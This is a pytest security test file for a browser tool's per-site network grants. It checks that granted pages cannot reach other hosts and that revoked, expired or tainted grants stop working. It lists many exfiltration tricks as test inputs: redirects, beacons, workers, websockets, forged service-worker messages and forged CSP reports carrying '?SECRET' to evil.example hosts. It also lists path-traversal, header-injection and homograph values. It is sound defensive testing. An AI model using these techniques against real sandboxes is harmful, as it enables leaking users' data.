"""A page made of files that may reach one host tries to reach others, and to keep that host when it no longer may."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator

import pytest

from gemini_testing import Surface
from gemini_testing.errors import PythonFailed, ToolCallFailed
from tests.attacks.listener import Listener, fenced_listener
from tests.attacks.site_escapes import ESCAPES, FILES
from tests.attacks.site_network import CUT_OFF, PRESSED, TRY, allow, revoke
from tests.attacks.test_sites import CONNECTS, attack
from tests.tiers import sampled
from tests.web.agent import close_tabs
from tests.web.person import Person
from tests.web.site import Site

INDEX = "/project/attack/index.html"
FETCH = "return fetch(arguments[0], { mode: 'no-cors' }).then(() => 'arrived', () => 'refused')"


@pytest.fixture(scope="module")
def allowed() -> Iterator[Listener]:
    """The host that the user allows."""
    with fenced_listener() as listener:
        yield listener


@pytest.fixture(scope="module")
def outside() -> Iterator[Listener]:
    """Another host."""
    with fenced_listener() as listener:
        yield listener


def show_browser(surface: Surface, person: Person) -> None:
    """Show the panel of tabs. The menu would close one that is shown."""
    if not surface.javascript("return document.querySelector('#browser-network').checkVisibility()"):
        person.open_panel("browser")


def trust_saved_code(surface: Surface, person: Person) -> None:
    """End the doubt about saved files, in which earlier tests left it."""
    if not surface.javascript("return document.querySelector('#settings')?.checkVisibility() ?? false"):
        person.open_panel("settings")
    if surface.javascript("return document.querySelector('#trust-saved-code') !== null"):
        person.click("#trust-saved-code")


@pytest.fixture
def site(surface: Surface, outside: Listener, person: Person) -> Iterator[Site]:
    for name, text in FILES.items():
        surface.call("file_write", path=f"/project/attack/{name}", content=text.replace("OUT", outside.url))
    surface.call("file_write", path="/project/other/index.html", content="<title>Other</title><p>secret")
    show_browser(surface, person)
    site = Site(surface)
    site.open(INDEX)
    yield site
    revoke(surface, person)
    close_tabs(surface)


@pytest.fixture
def granted(site: Site, person: Person, allowed: Listener) -> Site:
    allow(site, person, allowed)
    # The control: granted requests arrive.
    allowed.received(site.surface)
    assert site.run(FETCH, f"{allowed.url}/a") == "arrived"
    assert "/a" in allowed.received(site.surface)
    return site


def test_one_press_and_one_question_let_a_page_reach_a_host(
    site: Site, person: Person, allowed: Listener, surface: Surface
) -> None:
    question = allow(site, person, allowed)
    assert "/project/attack" in question
    assert "Whatever Python can read may leave to this host" in question
    allowed.received(surface)
    assert site.run(FETCH, f"{allowed.url}/a") == "arrived"
    site.run(
        "await new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = arguments[0] })",
        f"{allowed.url}/b",
    )
    received = allowed.received(surface)
    assert "/a" in received and "/b" in received


@pytest.mark.parametrize("escape", sampled(ESCAPES, every=24))
def test_another_host_than_the_granted_one_gets_nothing(
    granted: Site, outside: Listener, escape: str
) -> None:
    attack(granted, outside, ESCAPES[escape])
    received = outside.received(granted.surface)
    assert [each for each in received if each != "connection" or escape != CONNECTS] == []


# `to` is a redirect of the granted host to the other one.
WAYS = {
    "redirected-fetch": "await fetch(to).catch(() => 0)",
    "redirected-fetch-without-cors": "await fetch(to, { mode: 'no-cors' }).catch(() => 0)",
    "redirected-image": "await loads((done) => { add('img', { onload: done, onerror: done, src: to }) })",
    "redirected-style": "await loads((done) => add('link', { rel: 'stylesheet', href: to, onerror: done }))",
    "redirected-script": "await loads((done) => add('script', { src: to, onload: done, onerror: done }))",
    "redirected-module": "await import(to).catch(() => 0)",
    "redirected-font": "await new FontFace('x', `url(${to})`).load().catch(() => 0)",
    "redirected-beacon": "navigator.sendBeacon(to, 'x')",
    "redirected-event-source": "await loads((done) => { new EventSource(to).onerror = done })",
    "redirected-frame": "await soon(framed({ src: to }))",
    "redirected-prefetch": "add('link', { rel: 'prefetch', href: to }, document.head)",
    "redirected-object": "add('object', { data: to })",
    "redirected-video": "await loads((done) => add('video', { src: to, onerror: done }))",
    "redirected-location": "location.href = to",
    "redirected-form": "add('form', { action: to, method: 'post' }).submit()",
    "redirected-worker": "await worker(js(`fetch('${to}', { mode: 'no-cors' }).finally(() => postMessage(1))`))",
    "redirected-import-in-a-worker": "await worker(js(`try { importScripts('${to}') } catch {} postMessage(1)`))",
    "other-host-in-the-user-info": "await fetch(out.replace('//', `//${granted.slice(7)}@`) + '/a').catch(() => 0)",
    "same-origin-redirect": "await fetch('sub').catch(() => 0); await fetch(`sub?${out}`).catch(() => 0)",
    "secure-websocket": "new WebSocket(out.replace('http', 'wss'))",
    "forged-hosts": "for (const view of near()) view.navigator.serviceWorker.addEventListener('message', "
    "({ ports }) => ports[0].postMessage({ status: 200, type: 'text/html', hosts: [granted, out], salt: '', "
    "content: new TextEncoder().encode(`<img src=${out}/a>` + gone('b')).buffer })); "
    "await soon(framed({ src: 'sub/index.html' }))",
}
LOADS = "const loads = (work) => soon(new Promise(work));"


@pytest.mark.parametrize("way", sampled(WAYS, every=24))
def test_a_granted_host_leads_to_no_other(
    granted: Site, allowed: Listener, outside: Listener, way: str
) -> None:
    setup = f"const granted = {allowed.url!r}, to = `${{granted}}/to?${{out}}/a`; {LOADS}"
    attack(granted, outside, setup + WAYS[way])
    assert outside.received(granted.surface) == []


NAMES = {
    "another-name": "http://localhost:{port}/name",
    "subdomain": "http://a.localhost:{port}/name",
    "address-in-another-form": "http://127.1.1.1:{port}/name",
    "end": "http://127.0.0.1.localhost:{port}/name",
}


@pytest.mark.fortnightly
@pytest.mark.parametrize("name", sampled(NAMES))
def test_another_name_of_the_granted_port_gets_nothing(granted: Site, allowed: Listener, name: str) -> None:
    allowed.received(granted.surface)
    assert granted.run(FETCH, NAMES[name].format(port=allowed.server_port)) == "refused"
    assert "/name" not in allowed.received(granted.surface)


@pytest.mark.fortnightly
@pytest.mark.parametrize(
    "way",
    sampled(
        ["fetch", "form-get", "location", "window-open", "webrtc-udp", "preconnect", "frame", "download"]
    ),
)
def test_a_granted_host_is_reached_only_by_what_a_policy_names(
    granted: Site, allowed: Listener, way: str
) -> None:
    """Navigation, forms, windows and WebRTC stay closed: no policy could keep them at one host."""
    attack(granted, allowed, ESCAPES[way])
    received = allowed.received(granted.surface)
    reached = [each for each in received if each != "connection"]
    assert bool(reached) is (way in ("fetch", "frame"))
    assert "packet" not in received


def test_a_revoked_host_is_gone_at_once(
    granted: Site, person: Person, allowed: Listener, surface: Surface
) -> None:
    person.click('button "Network"')
    person.sees(CUT_OFF)
    assert "//n" not in granted.says("location.href")
    allowed.received(surface)
    assert granted.run(FETCH, f"{allowed.url}/a") == "refused"
    assert allowed.received(surface) == []


@pytest.mark.fortnightly
def test_a_grant_is_in_the_settings_and_ends_when_it_is_revoked_there(
    site: Site, person: Person, allowed: Listener, surface: Surface
) -> None:
    allow(site, person, allowed, "always")
    person.open_panel("settings")
    person.sees("#settings-grants", f"let pages of /project/attack reach {allowed.url}")
    # As the button next to it does.
    person.click("#settings-grants button")
    show_browser(surface, person)
    person.sees(CUT_OFF)
    assert site.run(FETCH, f"{allowed.url}/a") == "refused"


@pytest.mark.fortnightly
def test_a_grant_ends_by_itself(granted: Site, person: Person, allowed: Listener, surface: Surface) -> None:
    later = (
        "const now = Date.now; Date.now = () => now() + 3_700_000; globalThis.restoreNow = () => { Date.now = now };"
        "dispatchEvent(new StorageEvent('storage', { key: 'gemini-consent-grants' }))"
    )
    surface.javascript(later)
    try:
        person.sees(CUT_OFF)
        assert granted.run(FETCH, f"{allowed.url}/a") == "refused"
    finally:
        surface.javascript("restoreNow()")


@pytest.mark.fortnightly
def test_a_grant_once_ends_when_no_tab_shows_the_site(
    granted: Site, person: Person, allowed: Listener, surface: Surface
) -> None:
    surface.call("browser_tabs", action="close", tab=granted.tab)
    granted.open(INDEX)
    person.sees(CUT_OFF)
    assert granted.run(FETCH, f"{allowed.url}/a") == "refused"


@pytest.mark.fortnightly
def test_a_grant_is_for_its_site(granted: Site, person: Person, allowed: Listener, surface: Surface) -> None:
    first = granted.tab
    granted.open_beside("/project/other/index.html")
    person.sees(CUT_OFF)
    assert granted.run(FETCH, f"{allowed.url}/a") == "refused"
    # Another tab of the same site is the same site.
    granted.open_beside("/project/attack/sub/index.html")
    person.sees(PRESSED)
    assert granted.run(FETCH, f"{allowed.url}/a") == "arrived"
    surface.call("browser_tabs", action="close", tab=first)
    assert granted.run(FETCH, f"{allowed.url}/a") == "arrived"


@pytest.mark.fortnightly
@pytest.mark.parametrize("answer", sampled(["hour", "always"]))
def test_a_standing_grant_does_not_count_after_untrusted_text(
    surface: Surface, person: Person, site: Site, allowed: Listener, answer: str
) -> None:
    close_tabs(surface)
    # Only a restart by the user ends what was read before.
    person.click("#status-memory")
    person.click('#status-explained button "Restart Python"')
    surface.wait_for("document.documentElement.dataset.kernel === 'booting'")
    surface.wait_until_ready()
    surface.wait_for("JSON.parse(localStorage.getItem('gemini-consent-record')).read === null")
    trust_saved_code(surface, person)
    show_browser(surface, person)
    person.click("#browser-url")
    person.type(INDEX + "\n")
    surface.wait_for("document.querySelector('.tab-frame.front') !== null")
    site.tab = surface.javascript("return document.querySelector('.tab-frame.front').title").removeprefix(
        "Page in "
    )
    allow(site, person, allowed, answer)
    assert site.run(FETCH, f"{allowed.url}/a") == "arrived"
    surface.call("file_read", path="/project/other/index.html")
    person.sees(CUT_OFF)
    assert site.run(FETCH, f"{allowed.url}/a") == "refused"
    # The user can allow it again, knowing that.
    site.run(TRY, allowed.url)
    person.click('button "Network"')
    person.sees("#approval-taint", "An agent may have read text from outside")
    person.click(f"#approval-{answer}")
    person.sees(PRESSED)
    assert site.run(FETCH, f"{allowed.url}/a") == "arrived"


@pytest.mark.fortnightly
def test_a_forged_report_is_shown_and_grants_nothing(
    site: Site, person: Person, outside: Listener, allowed: Listener, surface: Surface
) -> None:
    forged = (
        "dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation', { blockedURI: arguments[0] }));"
        "for (let n = 0; n < 60; n++) dispatchEvent(new SecurityPolicyViolationEvent('securitypolicyviolation',"
        " { blockedURI: n % 2 ? `https://evil-${n}.example` : 'javascript:1' }))"
    )
    site.run(forged, f"{outside.url}/?SECRET")
    person.click('button "Network"')
    person.sees("#approval-question", outside.url)
    assert "SECRET" not in person.sees("#approval")
    count = surface.javascript("return document.querySelectorAll('#approval-requests li').length")
    for left in range(count, 0, -1):
        person.click('button "Refuse"')
        if left > 1:
            surface.wait_for(f"document.querySelectorAll('#approval-requests li').length < {left}")
    person.no_longer_sees("#approval")
    person.sees(CUT_OFF)
    outside.received(surface)
    assert site.run(FETCH, f"{outside.url}/a") == "refused"
    assert outside.received(surface) == []


OWN = "from gemini.kernel.kernel import kernel\ndocuments, tab = kernel.browser._documents, kernel.browser.active.id\n"
ROOTS = {
    "all-files": ("/", INDEX),
    "another-directory": ("/project/other", INDEX),
    "above-it": ("/project/attack/..", INDEX),
    "a-beginning": ("/project/att", INDEX),
    "dots-in-the-file": ("/project/other", "/project/other/../attack/index.html"),
    "escaped-dots": ("/project/other", "/project/other/%2e%2e/attack/index.html"),
    "a-slash": ("/project/attack/", INDEX),
    "two-slashes": ("//project/attack", "//project/attack/index.html"),
    "a-line": (
        "/project/attack\nHost: https://a.example",
        "/project/attack%0aHost:%20https://a.example/index.html",
    ),
    "no-directory": ("http://localhost", "http://localhost/a"),
    "malformed": ("/project/attack", "/project/attack/%ff"),
}


@pytest.mark.fortnightly
@pytest.mark.parametrize("root", sampled(ROOTS))
def test_a_root_is_the_directory_of_its_file(site: Site, surface: Surface, root: str) -> None:
    directory, path = ROOTS[root]
    code = (
        f"{OWN}await documents._request('openFile', {{'tab': tab, 'root': {directory!r}, 'path': {path!r}}})"
    )
    with pytest.raises(PythonFailed, match="is no directory of a site"):
        surface.python(code)


def test_python_can_not_ask_for_hosts(site: Site, surface: Surface) -> None:
    asked = "await documents._request('ask', {'tab': tab, 'method': 'refused', 'params': {}})"
    with pytest.raises(PythonFailed, match="can't use the method"):
        surface.python(OWN + asked)
    for method in ("allowNetwork", "network", "renew", "siteNetwork"):
        with contextlib.suppress(PythonFailed, ToolCallFailed):
            surface.python(
                f"{OWN}await documents._request({method!r}, {{'tab': tab, 'hosts': ['https://a.example']}})"
            )
    assert (
        surface.javascript("return document.querySelector('#approval')?.checkVisibility() ?? false") is False
    )


TYPED = {
    "api.example.org": "https://api.example.org",
    " HTTPS://API.Example.org/path?x ": "https://api.example.org",
    "http://a.example:8080": "http://a.example:8080",
    "wss://a.example": "https://a.example",
    "user:secret@a.example": "https://a.example",
    "bücher.example": "https://xn--bcher-kva.example",
    "pаypal.com": "https://xn--pypal-4ve.com",
}


@pytest.mark.fortnightly
def test_the_user_can_name_a_host(site: Site, surface: Surface, person: Person) -> None:
    for typed, host in TYPED.items():
        person.click('button "Network"')
        person.click("#browser-network-host")
        person.type(typed + "\n")
        assert host in person.sees("#approval-question", host).split()
        person.click('button "Refuse"')
        person.no_longer_sees("#approval")
    person.sees(CUT_OFF)


@pytest.mark.fortnightly
def test_the_surface_s_own_origins_are_no_hosts(site: Site, surface: Surface, person: Person) -> None:
    kernel = surface.python("import js; js.location.origin")
    place = site.run("return location.origin")
    person.click('button "Network"')
    own = (
        surface.javascript("return location.origin"),
        kernel,
        place,
        "file:///etc",
        "javascript:alert(1)",
        "*",
        "https://*.example",
        "[::1]",
        "",
    )
    for host in own:
        person.click("#browser-network-host")
        surface.javascript("document.querySelector('#browser-network-host').value = ''")
        person.type(host + "\n")
        person.sees("#browser-problem", "can't be allowed to reach")
    assert (
        surface.javascript("return document.querySelector('#approval')?.checkVisibility() ?? false") is False
    )
